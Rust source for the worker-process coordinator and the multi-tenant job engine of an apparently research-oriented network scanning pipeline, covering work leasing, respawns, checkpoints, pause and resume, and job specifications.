pub struct WorkerLaunch {
    /// Worker executable (typically the `nokeys-worker` binary).
    pub program: PathBuf,
    /// Extra arguments (fault-injection hooks in tests).
    pub args: Vec<String>,
    /// Opaque transport description, forwarded to every worker
    /// verbatim in its spec line. The core crate deliberately cannot
    /// decode it: transports live above this crate.
    pub transport: serde_json::Value,
    /// Batches per streamed segment chunk (smaller = finer recovery
    /// granularity, more pipe traffic).
    pub chunk: u64,
    /// Real milliseconds of pipe silence after which a leased worker
    /// is declared lost and respawned.
    pub heartbeat_timeout_ms: u64,
    /// Total worker respawns allowed before the run fails.
    pub max_respawns: u32,
}

impl WorkerLaunch {
    /// Launch `program` with `transport` and default tuning.
    pub fn new(program: impl Into<PathBuf>, transport: serde_json::Value) -> Self {
        WorkerLaunch {
            program: program.into(),
            args: Vec::new(),
            transport,
            chunk: 4,
            heartbeat_timeout_ms: 30_000,
            max_respawns: 8,
        }
    }

    /// Extra command-line arguments for every spawned worker.
    pub fn with_args(mut self, args: Vec<String>) -> Self {
        self.args = args;
        self
    }

    /// Batches per streamed segment chunk.
    pub fn with_chunk(mut self, chunk: u64) -> Self {
        self.chunk = chunk.max(1);
        self
    }

    /// Heartbeat timeout in real milliseconds.
    pub fn with_heartbeat_timeout_ms(mut self, ms: u64) -> Self {
        self.heartbeat_timeout_ms = ms.max(1);
        self
    }

    /// Total respawn budget.
    pub fn with_max_respawns(mut self, n: u32) -> Self {
        self.max_respawns = n;
        self
    }
}

/// The first line on a worker's stdin: everything the process needs to
/// rebuild the coordinator's pipeline exactly. The worker answers with
/// [`WorkerReply::Hello`] carrying its own batch count, which the
/// coordinator cross-checks against its own — any disagreement means
/// config drift and is fatal.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct WorkerSpec {
    /// The scan to run. `workers` and the checkpoint policy are
    /// coordinator concerns and ignored by the worker.
    pub scan: ScanSpec,
    /// Opaque transport description, decoded by the worker binary.
    pub transport: serde_json::Value,
    /// Batches per streamed segment chunk.
    pub chunk: u64,
}

enum PipeEvent {
    Reply(WorkerReply),
    Eof,
}

type PipeMsg = (usize, u64, PipeEvent);

struct Lease {
    id: u64,
    end: u64,
    /// Batches `[start, confirmed)` have arrived as segments; chunks
    /// within a lease are contiguous, so one cursor suffices.
    confirmed: u64,
    revoke_pending: bool,
}

struct Slot {
    child: Child,
    stdin: Option<ChildStdin>,
    gen: u64,
    lease: Option<Lease>,
    last_seen: Instant,
    alive: bool,
}

impl Drop for Slot {
    fn drop(&mut self) {
        // The coordinator future can be aborted (pause-as-abort) at any
        // await point; no orphan may keep scanning after the run is
        // gone. Checkpoint files carry whatever was confirmed.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn spawn_worker(
    launch: &WorkerLaunch,
    spec_line: &str,
    slot: usize,
    gen: u64,
    tx: &mpsc::UnboundedSender<PipeMsg>,
) -> Result<(Child, ChildStdin), PipelineError> {
    let mut child = Command::new(&launch.program)
        .args(&launch.args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .map_err(|e| {
            PipelineError::SweepFailed(format!("spawn worker {:?}: {e}", launch.program))
        })?;
    let mut stdin = child.stdin.take().expect("worker stdin is piped");
    let stdout = child.stdout.take().expect("worker stdout is piped");
    let _ = writeln!(stdin, "{spec_line}");
    let _ = stdin.flush();
    let tx = tx.clone();
    // One reader thread per worker generation: events carry (slot, gen)
    // so lines from a dead generation's pipe are ignored after respawn.
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if line.trim().is_empty() {
                continue;
            }
            // Unparseable lines are stray output, not protocol.
            if let Ok(reply) = WorkerReply::parse(&line) {
                if tx.send((slot, gen, PipeEvent::Reply(reply))).is_err() {
                    return;
                }
            }
        }
        let _ = tx.send((slot, gen, PipeEvent::Eof));
    });
    Ok((child, stdin))
}

struct Coordinator<'a> {
    launch: &'a WorkerLaunch,
    spec_line: String,
    path: Option<&'a Path>,
    fingerprint: ConfigFingerprint,
    total_batches: u64,
    slots: Vec<Slot>,
    /// Confirmed segments per slot, mirrored to `<base>.shard-<slot>`.
    slot_segments: Vec<Vec<ShardSegment>>,
    pending: VecDeque<(u64, u64)>,
    covered: u64,
    steals: u64,
    respawns: u32,
    next_lease: u64,
    shutting_down: bool,
    tx: mpsc::UnboundedSender<PipeMsg>,
    rx: mpsc::UnboundedReceiver<PipeMsg>,
}

impl<'a> Coordinator<'a> {
    fn new(
        launch: &'a WorkerLaunch,
        spec_line: String,
        path: Option<&'a Path>,
        fingerprint: ConfigFingerprint,
        total_batches: u64,
        workers: usize,
        covered: u64,
    ) -> Result<Self, PipelineError> {
        let (tx, rx) = mpsc::unbounded_channel();
        let mut slots = Vec::with_capacity(workers);
        for idx in 0..workers {
            let (child, stdin) = spawn_worker(launch, &spec_line, idx, 0, &tx)?;
            slots.push(Slot {
                child,
                stdin: Some(stdin),
                gen: 0,
                lease: None,
                last_seen: Instant::now(),
                alive: true,
            });
        }
        Ok(Coordinator {
            launch,
            spec_line,
            path,
            fingerprint,
            total_batches,
            slot_segments: vec![Vec::new(); workers],
            slots,
            pending: VecDeque::new(),
            covered,
            steals: 0,
            respawns: 0,
            next_lease: 0,
            shutting_down: false,
            tx,
            rx,
        })
    }

    fn done(&self) -> bool {
        self.covered == self.total_batches
            && self.pending.is_empty()
            && self.slots.iter().all(|s| s.lease.is_none())
    }

    fn send(&mut self, idx: usize, cmd: &WorkerCommand) {
        if let Some(stdin) = self.slots[idx].stdin.as_mut() {
            let _ = writeln!(stdin, "{}", cmd.to_line());
            let _ = stdin.flush();
        }
    }

    /// Hand pending ranges to idle workers; once the queue is dry, let
    /// the remaining idle workers steal tails off active leases.
    fn dispatch(&mut self) {
        for idx in 0..self.slots.len() {
            if !self.slots[idx].alive || self.slots[idx].lease.is_some() {
                continue;
            }
            let Some((start, end)) = self.pending.pop_front() else {
                break;
            };
            let id = self.next_lease;
            self.next_lease += 1;
            self.slots[idx].lease = Some(Lease {
                id,
                end,
                confirmed: start,
                revoke_pending: false,
            });
            self.send(idx, &WorkerCommand::Lease { lease: id, start, end });
        }
        if !self.pending.is_empty() {
            return;
        }
        let idle = self
            .slots
            .iter()
            .filter(|s| s.alive && s.lease.is_none())
            .count();
        for _ in 0..idle {
            self.try_steal();
        }
    }

    /// Revoke the tail half of the largest active remainder, exactly
    /// like the in-process [`WorkQueue`](crate::shard) steal. The tail
    /// re-enters the queue when the victim's `Released` reports where
    /// it actually stopped.
    fn try_steal(&mut self) {
        let mut best: Option<(usize, u64)> = None;
        for (i, slot) in self.slots.iter().enumerate() {
            let Some(lease) = &slot.lease else { continue };
            if lease.revoke_pending {
                continue;
            }
            let remaining = lease.end - lease.confirmed;
            if remaining >= 2 && best.is_none_or(|(_, r)| remaining > r) {
                best = Some((i, remaining));
            }
        }
        let Some((victim, remaining)) = best else { return };
        let lease = self.slots[victim].lease.as_mut().expect("victim has a lease");
        lease.revoke_pending = true;
        let id = lease.id;
        let at = lease.confirmed + remaining / 2;
        self.steals += 1;
        self.send(victim, &WorkerCommand::Revoke { lease: id, at });
    }

    fn persist_slot(&mut self, idx: usize) -> Result<(), PipelineError> {
        let Some(path) = self.path else {
            return Ok(());
        };
        ShardCheckpoint {
            format: SHARD_CHECKPOINT_FORMAT,
            fingerprint: self.fingerprint.clone(),
            total_batches: self.total_batches,
            segments: self.slot_segments[idx].clone(),
        }
        .save(&shard_worker_path(path, idx))?;
        Ok(())
    }

    fn handle_reply(&mut self, idx: usize, reply: WorkerReply) -> Result<(), PipelineError> {
        self.slots[idx].last_seen = Instant::now();
        match reply {
            WorkerReply::Hello { total_batches } => {
                if total_batches != self.total_batches {
                    return Err(PipelineError::SweepFailed(format!(
                        "worker {idx} computed {total_batches} batches, \
                         coordinator expected {} — config drift",
                        self.total_batches
                    )));
                }
            }
            WorkerReply::Heartbeat { .. } => {}
            WorkerReply::Segment { lease, segment } => {
                let Some(state) = self.slots[idx].lease.as_mut() else {
                    return Ok(());
                };
                if state.id != lease {
                    return Ok(());
                }
                if segment.start_batch != state.confirmed || segment.end_batch > state.end {
                    return Err(PipelineError::SweepFailed(format!(
                        "worker {idx} sent batches [{}, {}) but lease {lease} \
                         confirmed {} of [.., {})",
                        segment.start_batch, segment.end_batch, state.confirmed, state.end
                    )));
                }
                state.confirmed = segment.end_batch;
                self.covered += segment.len();
                self.slot_segments[idx].push(*segment);
                self.persist_slot(idx)?;
            }
            WorkerReply::Released { lease, end } => {
                let Some(state) = self.slots[idx].lease.take() else {
                    return Ok(());
                };
                if state.id != lease {
                    self.slots[idx].lease = Some(state);
                    return Ok(());
                }
                // Segments precede Released on the same pipe, so
                // `confirmed` is final; anything past it up to the
                // original lease end was never scanned and re-enters
                // the queue (the steal tail, or nothing).
                let tail_start = end.max(state.confirmed);
                if tail_start < state.end {
                    self.pending.push_back((tail_start, state.end));
                }
                self.dispatch();
            }
            WorkerReply::Error { message: _ } => {
                // Fatal for this worker; killing it surfaces EOF on the
                // reader thread, and the EOF path re-queues + respawns.
                let _ = self.slots[idx].child.kill();
            }
        }
        Ok(())
    }

    fn handle_eof(&mut self, idx: usize) -> Result<(), PipelineError> {
        self.slots[idx].alive = false;
        let _ = self.slots[idx].child.kill();
        let _ = self.slots[idx].child.wait();
        if self.shutting_down {
            return Ok(());
        }
        if let Some(state) = self.slots[idx].lease.take() {
            if state.confirmed < state.end {
                self.pending.push_back((state.confirmed, state.end));
            }
        }
        if self.done() {
            return Ok(());
        }
        if self.respawns >= self.launch.max_respawns {
            return Err(PipelineError::SweepFailed(format!(
                "worker {idx} exited with work outstanding and the respawn \
                 budget ({}) is exhausted",
                self.launch.max_respawns
            )));
        }
        self.respawns += 1;
        let gen = self.slots[idx].gen + 1;
        let (child, stdin) = spawn_worker(self.launch, &self.spec_line, idx, gen, &self.tx)?;
        self.slots[idx] = Slot {
            child,
            stdin: Some(stdin),
            gen,
            lease: None,
            last_seen: Instant::now(),
            alive: true,
        };
        self.dispatch();
        Ok(())
    }

    fn check_stale(&mut self) {
        let timeout = Duration::from_millis(self.launch.heartbeat_timeout_ms);
        for slot in &mut self.slots {
            if slot.alive && slot.lease.is_some() && slot.last_seen.elapsed() > timeout {
                // Quiet past the deadline: kill; the reader thread's
                // EOF drives re-queue + respawn.
                let _ = slot.child.kill();
            }
        }
    }

    async fn run(&mut self) -> Result<(), PipelineError> {
        let poll = Duration::from_millis((self.launch.heartbeat_timeout_ms / 4).clamp(50, 500));
        while !self.done() {
            match tokio::time::timeout(poll, self.rx.recv()).await {
                Ok(Some((idx, gen, event))) => {
                    if idx >= self.slots.len() || self.slots[idx].gen != gen {
                        continue; // stale generation after a respawn
                    }
                    match event {
                        PipeEvent::Reply(reply) => self.handle_reply(idx, reply)?,
                        PipeEvent::Eof => self.handle_eof(idx)?,
                    }
                }
                Ok(None) => break,
                Err(_) => self.check_stale(),
            }
        }
        self.shutting_down = true;
        for idx in 0..self.slots.len() {
            self.send(idx, &WorkerCommand::Shutdown);
        }
        for slot in &mut self.slots {
            slot.stdin = None; // EOF unblocks a worker waiting on commands
            let _ = slot.child.kill();
            let _ = slot.child.wait();
        }
        Ok(())
    }

    fn finish(mut self, segments: &mut Vec<ShardSegment>) -> ShardStats {
        let mut stats = ShardStats {
            shards: self.slots.len(),
            steals: self.steals,
            batches_by_worker: Vec::with_capacity(self.slots.len()),
            // Probe counts stay inside worker processes; the merged
            // telemetry still carries the totals.
            probes_by_worker: vec![0; self.slots.len()],
        };
        for segs in &self.slot_segments {
            stats.batches_by_worker.push(segs.iter().map(|s| s.len()).sum());
        }
        for segs in self.slot_segments.drain(..) {
            segments.extend(segs);
        }
        stats
    }
}

/// The process-tier engine behind `ScanSpec::workers > 0` — the
/// out-of-process counterpart of [`run_sharded`](crate::shard).
///
/// `path` is the same *base* checkpoint path the shard tier uses
/// (slot files hang off it); `resume` selects whether existing state
/// there is loaded or cleared. Report and telemetry are byte-identical
/// to the in-process engine for the same spec.
pub(crate) async fn run_process_tier(
    config: &PipelineConfig,
    scan: &ScanSpec,
    launch: &WorkerLaunch,
    workers: usize,
    telemetry: &Telemetry,
    path: Option<&Path>,
    resume: bool,
) -> Result<(ScanReport, ShardStats), PipelineError> {
    assert!(config.blocks_per_batch > 0, "batch size must be positive");
    let workers = workers.max(1);
    let fingerprint = ConfigFingerprint::of(config);
    let total = total_batches(config);

    let mut inherited: Vec<ShardSegment> = Vec::new();
    if resume {
        let path = path.expect("resume requires a checkpoint path");
        match load_resume_state(path, &fingerprint, total)? {
            ResumeState::Finished {
                report,
                telemetry: snapshot,
            } => {
                telemetry.absorb(&snapshot);
                return Ok((report, ShardStats::idle(workers)));
            }
            ResumeState::Inherited(segments) => inherited = segments,
        }
    } else if let Some(path) = path {
        clear_checkpoint_files(path);
    }

    let remaining = complement(&inherited, total);
    let covered: u64 = inherited.iter().map(|s| s.len()).sum();
    let mut segments = inherited;

    let stats = if remaining.is_empty() {
        ShardStats::idle(workers)
    } else {
        let mut spec = scan.clone();
        spec.workers = None; // workers never sub-lease
        let worker_spec = WorkerSpec {
            scan: spec,
            transport: launch.transport.clone(),
            chunk: launch.chunk.max(1),
        };
        let spec_line = serde_json::to_string(&worker_spec).expect("worker spec serializes");
        let mut coordinator = Coordinator::new(
            launch,
            spec_line,
            path,
            fingerprint.clone(),
            total,
            workers,
            covered,
        )?;
        coordinator.pending = plan_initial_ranges(&remaining, workers as u64).into();
        coordinator.dispatch();
        coordinator.run().await?;
        coordinator.finish(&mut segments)
    };

    check_full_coverage(&mut segments, total)?;
    let report = merge_segments(telemetry, segments)?;
    if let Some(path) = path {
        finalize_checkpoint(path, fingerprint, total, &report, telemetry)?;
    }
    Ok((report, stats))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn worker_spec_round_trips_through_one_line() {
        let spec = WorkerSpec {
            scan: ScanSpec::new(vec!["10.0.0.0/24".parse().unwrap()]),
            transport: serde_json::json!({"kind": "tcp", "fault_rate": 0.0}),
            chunk: 4,
        };
        let line = serde_json::to_string(&spec).expect("serializes");
        assert!(!line.contains('\n'), "spec must be one line: {line}");
        let back: WorkerSpec = serde_json::from_str(&line).expect("parses back");
        assert_eq!(back.chunk, 4);
        assert_eq!(back.transport["kind"], "tcp");
        assert_eq!(back.scan.targets, spec.scan.targets);
    }

    #[test]
    fn launch_defaults_are_sane() {
        let launch = WorkerLaunch::new("/bin/true", serde_json::Value::Null);
        assert_eq!(launch.chunk, 4);
        assert!(launch.heartbeat_timeout_ms >= 1_000);
        assert!(launch.max_respawns >= 1);
        assert!(launch.args.is_empty());
        let tuned = launch.with_chunk(0).with_heartbeat_timeout_ms(0);
        assert_eq!(tuned.chunk, 1, "chunk clamps to at least one batch");
        assert_eq!(tuned.heartbeat_timeout_ms, 1);
    }
}
