//! Scan-as-a-service: a long-running, multi-tenant job engine wrapped
//! around the pipeline.
//!
//! The paper's methodology is inherently a *service*, not a one-shot
//! invocation: a 4-week longevity study over recurring rescans (§4) on
//! top of paced, checkpointed, full-address-space sweeps. This module
//! turns that into an API:
//!
//! * [`JobEngine`] owns a transport, a registry of **tenants** (each
//!   with a token-bucket quota chained under a global ceiling — see
//!   [`quota`]) and a queue of [`JobSpec`]s.
//! * A [`JobSpec`] is a serializable superset of
//!   [`PipelineConfig`](crate::pipeline::PipelineConfig): a scan or
//!   observer description plus tenant id, priority, recurrence and
//!   checkpoint policy. Being plain data, it crosses process
//!   boundaries — the [`wire`] module frames it as newline-delimited
//!   JSON for the `nokeys-scand` daemon.
//! * Submitting yields a [`JobHandle`] with
//!   `pause`/`resume`/`cancel`/`status`/`wait`, backed by the
//!   checkpoint + per-shard resume machinery so **pause→resume is
//!   byte-identical** to an uninterrupted run, and a
//!   [`subscribe`](JobHandle::subscribe) stream of [`JobEvent`]s
//!   carrying incremental [`ScanReport`] deltas and
//!   [`TelemetrySnapshot`]s as batches complete (the consumer-side
//!   staging-delta absorption of the checkpointed pipeline, re-emitted
//!   to subscribers).
//! * The longevity observer becomes a **scheduled recurring job**
//!   ([`JobKind::Observe`] + [`Recurrence::Repeat`]) instead of a
//!   one-shot binary: each round extends the study via
//!   [`observe_incremental`](crate::observer::observe_incremental).
//!
//! # Determinism contract
//!
//! A scan submitted through the engine produces a [`ScanReport`] and
//! job [`TelemetrySnapshot`] byte-identical to the same configuration
//! driven directly through [`Pipeline::run`](crate::pipeline::Pipeline::run)
//! — at any parallelism or shard count, faults on or off, paused and
//! resumed or not. Tenancy only adds *pacing* (virtual waiting time),
//! which never changes report bytes. Engine-level counters
//! (`engine.*`) live in the engine's own registry, never in a job's.

pub mod engine;
pub mod process;
pub mod quota;
pub mod wire;

pub use engine::{EngineConfig, JobEngine, JobHandle};
pub use process::WorkerLaunch;
pub use quota::TenantConfig;

use crate::observer::{LongevityStudy, RescanDelta};
use crate::pipeline::{PipelineConfig, PipelineConfigBuilder};
use crate::portscan::{Cidr, PortScanConfig};
use crate::report::{HostFinding, ScanReport};
use crate::retry::RetryPolicy;
use crate::telemetry::TelemetrySnapshot;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::path::PathBuf;
use std::time::Duration;

/// Engine-assigned job identifier (monotonic per engine).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct JobId(pub u64);

impl fmt::Display for JobId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "job-{}", self.0)
    }
}

/// How often a job runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Recurrence {
    /// Run once to completion. For [`JobKind::Observe`] this is the
    /// classic one-shot study over the full configured window.
    Once,
    /// Run `rounds` rounds, sleeping `every_secs` of real time between
    /// them (0 = back-to-back, the useful setting under a virtual
    /// clock). A recurring **observe** job performs one observation
    /// round per tick, extending the accumulated [`LongevityStudy`]
    /// through [`observe_incremental`](crate::observer::observe_incremental);
    /// a recurring **scan** re-runs the full scan each round.
    Repeat { every_secs: u64, rounds: u32 },
}

/// Where (and whether) a job persists checkpoints.
///
/// Checkpoints are what make [`JobHandle::pause`] →
/// [`JobHandle::resume`] byte-identical to an uninterrupted run; a job
/// with checkpointing [`Disabled`](Self::Disabled) cannot be paused.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum CheckpointPolicy {
    /// Engine-assigned file under [`EngineConfig::spool_dir`], one per
    /// job, written every `every` batches. Always starts fresh.
    Spooled { every: u64 },
    /// Caller-supplied path, written every `every` batches. With
    /// `resume` set, an existing (fingerprint-compatible) checkpoint at
    /// that path is continued instead of overwritten — the engine
    /// equivalent of the CLIs' `--checkpoint FILE --resume`.
    Explicit {
        path: PathBuf,
        every: u64,
        resume: bool,
    },
    /// No persistence: the job cannot be paused, and a cancelled or
    /// killed job leaves nothing behind.
    Disabled,
}

impl Default for CheckpointPolicy {
    fn default() -> Self {
        CheckpointPolicy::Spooled { every: 8 }
    }
}

/// Serializable description of one pipeline scan — the [`JobSpec`]
/// counterpart of [`PipelineConfig`], carrying only plain data so it
/// can cross a process boundary. Unset fields take the builder
/// defaults.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[non_exhaustive]
pub struct ScanSpec {
    /// Target blocks.
    pub targets: Vec<Cidr>,
    /// Ports to probe (default: the paper's 12).
    #[serde(default)]
    pub ports: Option<Vec<u16>>,
    /// Seed for the /24 shuffle.
    #[serde(default)]
    pub seed: Option<u64>,
    /// Exclude IANA reserved ranges (default true).
    #[serde(default)]
    pub exclude_reserved: Option<bool>,
    /// Job-level probe-rate ceiling; chained *under* the tenant and
    /// global buckets, so the effective rate is the minimum of all
    /// three.
    #[serde(default)]
    pub max_probes_per_sec: Option<f64>,
    /// Use the dense per-address sweep instead of the sparse fast path.
    #[serde(default)]
    pub dense_sweep: bool,
    /// Stage-I blocks per streamed batch.
    #[serde(default)]
    pub blocks_per_batch: Option<usize>,
    /// All-ports-open artifact threshold.
    #[serde(default)]
    pub tarpit_port_threshold: Option<usize>,
    /// Run the version fingerprinter (default true).
    #[serde(default)]
    pub fingerprint: Option<bool>,
    /// Run stage-III verification (default true).
    #[serde(default)]
    pub verify: Option<bool>,
    /// Stage II/III concurrency.
    #[serde(default)]
    pub parallelism: Option<usize>,
    /// Shard-worker count (>1 routes through the shard orchestrator).
    #[serde(default)]
    pub shards: Option<usize>,
    /// Total attempts per network operation (default 3).
    #[serde(default)]
    pub retries: Option<u32>,
    /// Real milliseconds per backoff unit (default 0: virtual-only).
    #[serde(default)]
    pub retry_real_unit_ms: Option<u64>,
    /// External worker-process count (>0 routes through the process
    /// tier — requires [`EngineConfig::worker_launch`]). Deliberately
    /// *not* part of the pipeline config or its checkpoint fingerprint:
    /// like `shards`, it changes who does the work, never what the work
    /// produces.
    #[serde(default)]
    pub workers: Option<usize>,
}

impl ScanSpec {
    /// A spec over `targets` with every knob at its builder default.
    pub fn new(targets: Vec<Cidr>) -> Self {
        ScanSpec {
            targets,
            ports: None,
            seed: None,
            exclude_reserved: None,
            max_probes_per_sec: None,
            dense_sweep: false,
            blocks_per_batch: None,
            tarpit_port_threshold: None,
            fingerprint: None,
            verify: None,
            parallelism: None,
            shards: None,
            retries: None,
            retry_real_unit_ms: None,
            workers: None,
        }
    }

    /// Materialize the [`PipelineConfigBuilder`] this spec describes
    /// (telemetry and checkpoint wiring are the engine's job and are
    /// deliberately not part of the serializable spec).
    pub fn to_builder(&self) -> PipelineConfigBuilder {
        let mut portscan = PortScanConfig::new(self.targets.clone());
        if let Some(ports) = &self.ports {
            portscan.ports = ports.clone();
        }
        if let Some(seed) = self.seed {
            portscan.seed = seed;
        }
        if let Some(exclude) = self.exclude_reserved {
            portscan.exclude_reserved = exclude;
        }
        portscan.max_probes_per_sec = self.max_probes_per_sec;
        portscan.dense_sweep = self.dense_sweep;

        let mut retry = match self.retries {
            Some(n) => RetryPolicy::with_attempts(n),
            None => RetryPolicy::default(),
        };
        if let Some(ms) = self.retry_real_unit_ms {
            retry.real_unit = Duration::from_millis(ms);
        }

        let mut builder = PipelineConfig::builder(self.targets.clone())
            .portscan(portscan)
            .retry_policy(retry);
        if let Some(threshold) = self.tarpit_port_threshold {
            builder = builder.tarpit_port_threshold(threshold);
        }
        if let Some(blocks) = self.blocks_per_batch {
            builder = builder.blocks_per_batch(blocks);
        }
        if let Some(fingerprint) = self.fingerprint {
            builder = builder.fingerprint(fingerprint);
        }
        if let Some(verify) = self.verify {
            builder = builder.verify(verify);
        }
        if let Some(parallelism) = self.parallelism {
            builder = builder.parallelism(parallelism);
        }
        if let Some(shards) = self.shards {
            builder = builder.shards(shards);
        }
        builder
    }
}

/// Serializable description of one longevity observation.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[non_exhaustive]
pub struct ObserveSpec {
    /// The hosts to observe (typically a scan's vulnerable findings).
    pub findings: Vec<HostFinding>,
    /// Seconds between observation rounds (the paper: 3 hours).
    pub interval_secs: i64,
    /// Total observation window for [`Recurrence::Once`] (the paper: 4
    /// weeks). Recurring jobs grow the window one interval per round
    /// and ignore this field.
    pub window_secs: i64,
    /// Consecutive offline rounds after which incremental rescans stop
    /// re-probing a host (default 8, like
    /// [`ObserverConfig`](crate::observer::ObserverConfig)).
    #[serde(default)]
    pub terminal_offline_after: Option<usize>,
}

impl ObserveSpec {
    /// Observe `findings` every `interval_secs` over `window_secs`.
    pub fn new(findings: Vec<HostFinding>, interval_secs: i64, window_secs: i64) -> Self {
        ObserveSpec {
            findings,
            interval_secs,
            window_secs,
            terminal_offline_after: None,
        }
    }
}

/// What a job does.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
#[non_exhaustive]
pub enum JobKind {
    /// A full three-stage pipeline scan.
    Scan(ScanSpec),
    /// A longevity observation over prior findings.
    Observe(ObserveSpec),
}

/// A complete, serializable job submission.
///
/// `#[non_exhaustive]`: construct via [`JobSpec::scan`] /
/// [`JobSpec::observe`] and set the public fields afterwards, so new
/// knobs can be added without breaking downstream construction sites.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[non_exhaustive]
pub struct JobSpec {
    /// Owning tenant (quota bucket). Unknown tenants are auto-registered
    /// with an unlimited quota.
    pub tenant: String,
    /// Higher runs first when the engine is at
    /// [`EngineConfig::max_active`]; ties dispatch in submission order.
    #[serde(default)]
    pub priority: i32,
    /// What to run.
    pub kind: JobKind,
    /// How often to run it.
    #[serde(default = "default_recurrence")]
    pub recurrence: Recurrence,
    /// Checkpoint persistence (pause/resume capability).
    #[serde(default)]
    pub checkpoint: CheckpointPolicy,
}

fn default_recurrence() -> Recurrence {
    Recurrence::Once
}

impl JobSpec {
    /// A one-shot scan job for `tenant` with spooled checkpoints.
    pub fn scan(tenant: impl Into<String>, spec: ScanSpec) -> Self {
        JobSpec {
            tenant: tenant.into(),
            priority: 0,
            kind: JobKind::Scan(spec),
            recurrence: Recurrence::Once,
            checkpoint: CheckpointPolicy::default(),
        }
    }

    /// A one-shot observe job for `tenant` (no checkpointing — the
    /// observer keeps its state in the accumulated study).
    pub fn observe(tenant: impl Into<String>, spec: ObserveSpec) -> Self {
        JobSpec {
            tenant: tenant.into(),
            priority: 0,
            kind: JobKind::Observe(spec),
            recurrence: Recurrence::Once,
            checkpoint: CheckpointPolicy::Disabled,
        }
    }
}

/// Job lifecycle states.
///
/// ```text
/// Queued ──▶ Running ──▶ Completed
///              │  ▲  └──▶ Failed
///              ▼  │
///            Paused
/// (any non-terminal state ──▶ Cancelled)
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum JobState {
    Queued,
    Running,
    Paused,
    Completed,
    Cancelled,
    Failed,
}

impl JobState {
    /// Whether the job can never run again.
    pub fn is_terminal(self) -> bool {
        matches!(
            self,
            JobState::Completed | JobState::Cancelled | JobState::Failed
        )
    }
}

impl fmt::Display for JobState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            JobState::Queued => "queued",
            JobState::Running => "running",
            JobState::Paused => "paused",
            JobState::Completed => "completed",
            JobState::Cancelled => "cancelled",
            JobState::Failed => "failed",
        };
        f.write_str(s)
    }
}

/// Point-in-time view of a job.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[non_exhaustive]
pub struct JobStatus {
    pub id: JobId,
    pub tenant: String,
    pub state: JobState,
    /// Stage-I batches fully processed so far (current round).
    pub batches_done: u64,
    /// Completed recurrence rounds.
    pub rounds_done: u32,
}

/// Full-state snapshot of a job, sent to a lagged subscriber (via
/// [`wire::Reply::Gap`]) so it can rebuild cumulative state instead of
/// summing [`JobEvent::Batch`] deltas it never received.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[non_exhaustive]
pub struct JobResync {
    /// Point-in-time status at the moment of the snapshot.
    pub status: JobStatus,
    /// Cumulative report so far (current round), when the job has
    /// produced one — `None` for observe jobs and not-yet-started
    /// scans.
    pub report: Option<Box<ScanReport>>,
    /// Cumulative job-registry telemetry matching `report`.
    pub telemetry: Option<TelemetrySnapshot>,
}

/// Final product of a completed job.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
#[non_exhaustive]
pub enum JobOutcome {
    /// A finished scan: the report plus the job registry's final
    /// snapshot — both byte-identical to a direct
    /// [`Pipeline::run`](crate::pipeline::Pipeline::run) of the same
    /// configuration.
    Scan {
        report: ScanReport,
        telemetry: TelemetrySnapshot,
    },
    /// A finished observation (all rounds).
    Observe {
        study: LongevityStudy,
        telemetry: TelemetrySnapshot,
    },
}

impl JobOutcome {
    /// The job registry's final snapshot.
    pub fn telemetry(&self) -> &TelemetrySnapshot {
        match self {
            JobOutcome::Scan { telemetry, .. } | JobOutcome::Observe { telemetry, .. } => telemetry,
        }
    }

    /// The scan report, if this was a scan job.
    pub fn report(&self) -> Option<&ScanReport> {
        match self {
            JobOutcome::Scan { report, .. } => Some(report),
            JobOutcome::Observe { .. } => None,
        }
    }

    /// The longevity study, if this was an observe job.
    pub fn study(&self) -> Option<&LongevityStudy> {
        match self {
            JobOutcome::Observe { study, .. } => Some(study),
            JobOutcome::Scan { .. } => None,
        }
    }
}

/// Streamed job progress, delivered through [`JobHandle::subscribe`].
///
/// Large payloads are boxed so the enum stays cheap to clone through
/// the broadcast channel.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "event", rename_all = "snake_case")]
#[non_exhaustive]
pub enum JobEvent {
    /// The job started (or restarted for a new recurrence round).
    Started { job: JobId, round: u32 },
    /// One stage-I batch was fully processed: `delta` is that batch's
    /// report contribution and `telemetry` the job registry's delta
    /// since the previous event — absorb them in order to reconstruct
    /// the cumulative state. Unsharded scans only; sharded rounds
    /// report at round granularity.
    Batch {
        job: JobId,
        seq: u64,
        delta: Box<ScanReport>,
        telemetry: TelemetrySnapshot,
    },
    /// A checkpoint was persisted after `batches_done` batches.
    Checkpointed { job: JobId, batches_done: u64 },
    /// The job reached a batch boundary after a pause request and wrote
    /// its checkpoint.
    Paused { job: JobId, batches_done: u64 },
    /// The job resumed from its checkpoint.
    Resumed { job: JobId },
    /// One observation round of a recurring observe job completed.
    Round {
        job: JobId,
        round: u32,
        study: Box<LongevityStudy>,
        delta: Box<RescanDelta>,
    },
    /// Terminal: the job finished; the outcome is also available from
    /// [`JobHandle::wait`].
    Completed { job: JobId, outcome: Box<JobOutcome> },
    /// Terminal: the job was cancelled (checkpoint files removed).
    Cancelled { job: JobId },
